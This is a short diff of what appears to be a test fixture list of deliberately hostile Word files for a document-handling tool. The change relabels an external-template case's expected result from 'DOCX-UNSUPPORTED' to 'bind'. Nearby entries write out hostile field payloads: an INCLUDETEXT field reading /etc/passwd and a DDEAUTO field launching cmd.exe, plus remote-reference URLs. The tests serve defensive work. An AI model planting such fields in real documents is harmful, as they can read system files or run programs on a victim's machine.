@@ -159,8 +159,8 @@ FILES: tuple[Hostile, ...] = (
             "FILE-UNREVIEWED"),
     hostile("word/网上图片.docx", "图片在网上", docx_with_relationship("image", "http://192.0.2.1/a.png", "<w:p><w:r><w:drawing/></w:r></w:p>"),
             "DOCX-UNSUPPORTED"),
-    hostile("word/外部模板.docx", "模板在别的机器上", docx_with_relationship("attachedTemplate", "//192.0.2.1/share/a.dotm"),
-            "DOCX-UNSUPPORTED"),
+    hostile("word/外部模板.docx", "模板在别的机器上，不去取", docx_with_relationship("attachedTemplate", "//192.0.2.1/share/a.dotm"),
+            "bind"),
     hostile("word/域.docx", "有读文件的域", docx_with_paragraph(FIELD.format("INCLUDETEXT /etc/passwd")), "DOCX-UNSUPPORTED"),
     hostile("word/动态数据.docx", "有启动程序的域", docx_with_paragraph(FIELD.format("DDEAUTO c:\\\\cmd.exe")), "DOCX-UNSUPPORTED"),
     hostile("word/模板标记.docx", "正文里有模板标记，只是文字", lambda: edit_docx(
